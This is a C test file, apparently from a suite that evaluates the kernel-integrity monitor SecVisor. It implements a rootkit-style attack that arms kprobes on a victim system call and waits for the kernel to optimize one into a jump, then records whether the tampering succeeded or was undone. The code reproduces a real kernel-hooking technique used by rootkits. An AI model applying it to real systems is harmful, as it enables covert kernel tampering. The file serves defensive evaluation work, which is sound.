// Row 16. An optimized kprobe: the breakpoint becomes a jump to a slot made at run time.
// Source: kprobe-based rootkits (kovid and kin).
// Ends: natively succeeded; beneath SecVisor restored: neither the breakpoint nor the jump is a value of the page, tampered.
#include "common/attack.h"
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

ATTACK("optprobe")
{
	static char list[65536];
	char text[4096] = "", line[128];
	long before = victim();
	int optimized = 0;

	mount("trace", "/sys/kernel/tracing", "tracefs", 0, NULL);
	mount("debug", "/sys/kernel/debug", "debugfs", 0, NULL);
	about_to("arm a probe and have it optimized");
	for (int offset = 5; offset < 24 && !optimized; offset++) {
		snprintf(line, sizeof(line), "p:attack/optimized " VICTIM "+%d\n", offset);
		if (write_file("/sys/kernel/tracing/kprobe_events", line))
			continue;
		if (!write_file("/sys/kernel/tracing/events/attack/optimized/enable", "1\n")) {
			// The optimizer comes later, in a worker.
			for (int i = 0; i < 20 && !optimized; i++) {
				usleep(100000);
				read_file("/sys/kernel/debug/kprobes/list", list, sizeof(list));
				optimized = strstr(list, "[OPTIMIZED]") != NULL;
			}
			if (optimized)
				break;
			write_file("/sys/kernel/tracing/events/attack/optimized/enable", "0\n");
		}
		write_file("/sys/kernel/tracing/kprobe_events", "-:attack/optimized\n");
	}
	if (!optimized)
		failed("no probe was optimized");
	long after = victim();

	read_file("/sys/kernel/tracing/trace", text, sizeof(text));
	write_file("/sys/kernel/tracing/events/attack/optimized/enable", "0\n");
	write_file("/sys/kernel/tracing/kprobe_events", "-:attack/optimized\n");
	if (strstr(text, "optimized: ("))
		succeeded("the optimized probe was hit");
	if (before == after)
		restored("the probe was not hit, the system call still works");
	failed("the system call returned %ld", after);
}
